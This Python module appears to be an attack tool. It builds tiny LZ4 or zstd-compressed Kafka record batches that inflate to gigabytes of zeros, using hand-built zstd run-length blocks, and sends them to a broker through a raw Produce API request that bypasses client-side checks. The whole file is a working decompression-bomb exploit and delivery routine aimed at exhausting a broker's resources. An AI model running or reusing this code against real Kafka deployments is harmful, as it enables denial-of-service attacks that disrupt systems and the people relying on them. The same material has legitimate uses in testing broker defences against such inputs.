"""Batches of a few kB that unpack to gigabytes, and how to hand them to a broker without a client that would object.

Formats: Kafka documentation, "Record Batch" and "Produce API" (version 7); RFC 8878 for zstd, whose run-length blocks
are the cheapest way to say "128 kB of zeros, again".
"""

from __future__ import annotations

import socket
import struct
import time

import lz4.frame
from crc32c import crc32c

LZ4, ZSTD = 3, 4
_BLOCK = 128 << 10
_BATCH_HEAD = struct.Struct(">hiqqqhii")  # attributes, last offset delta, two timestamps, producer, epoch, seq, records


def bomb(codec: int, unpacked_bytes: int) -> bytes:
    """A batch of one record whose value is that many zeros."""
    value = unpacked_bytes - unpacked_bytes % _BLOCK
    fields = b"\0\0\0\1" + _varint(value)  # attributes, timestamp and offset deltas, no key
    start = _varint(len(fields) + value + 1) + fields
    packed = _lz4(start, value) if codec == LZ4 else _zstd(start, value)
    now = int(time.time() * 1000)
    body = _BATCH_HEAD.pack(codec, 0, now, now, -1, -1, -1, 1) + packed
    crc = crc32c(body)
    return struct.pack(">qiibI", 0, 4 + 1 + 4 + len(body), -1, 2, crc) + body


def send(link: socket.socket, topic: str, batch: bytes) -> int:
    """Kafka's error code for ``batch`` in partition 0 of ``topic``; 0 when it was stored."""
    name = topic.encode()
    request = (
        struct.pack(">hhih", 0, 7, 1, -1)
        + struct.pack(">hhii", -1, -1, 30_000, 1)
        + struct.pack(">h", len(name)) + name
        + struct.pack(">iii", 1, 0, len(batch)) + batch
    )  # fmt: skip
    link.sendall(struct.pack(">i", len(request)) + request)
    answer = _exactly(link, struct.unpack(">i", _exactly(link, 4))[0])
    (code,) = struct.unpack_from(">h", answer, 4 + 4 + 2 + len(name) + 4 + 4)
    return int(code)


def _exactly(link: socket.socket, nbytes: int) -> bytes:
    got = b""
    while len(got) < nbytes:
        more = link.recv(nbytes - len(got))
        assert more, "the broker closed the connection"
        got += more
    return got


def _varint(number: int) -> bytes:
    left, out = number << 1, bytearray()
    while left > 127:
        out.append(left & 127 | 128)
        left >>= 7
    return bytes([*out, left])


def _lz4(start: bytes, zeros: int) -> bytes:
    packer = lz4.frame.LZ4FrameCompressor(block_linked=False, block_size=lz4.frame.BLOCKSIZE_MAX4MB)
    parts = [packer.begin(), packer.compress(start)]
    parts += [packer.compress(bytes(_BLOCK)) for _ in range(zeros // _BLOCK)]
    return b"".join([*parts, packer.compress(b"\0"), packer.flush()])


def _zstd(start: bytes, zeros: int) -> bytes:
    frame = b"\x28\xb5\x2f\xfd\x00\x50"  # magic; nothing but a window: of 1 MiB
    raw, run = 0 << 1, 1 << 1
    frame += (len(start) << 3 | raw).to_bytes(3, "little") + start
    frame += ((_BLOCK << 3 | run).to_bytes(3, "little") + b"\0") * (zeros // _BLOCK)
    return frame + (1 << 3 | raw | 1).to_bytes(3, "little") + b"\0"  # no headers; the last block
